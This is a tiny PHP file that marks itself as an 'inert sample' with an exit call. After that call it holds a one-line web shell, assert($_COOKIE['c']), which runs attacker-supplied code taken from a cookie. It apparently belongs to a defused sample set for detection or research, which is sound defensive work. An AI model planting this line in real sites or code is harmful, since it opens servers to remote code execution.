<?php exit('inert sample'); ?>
<?php assert ( $_COOKIE['c'] ); ?>
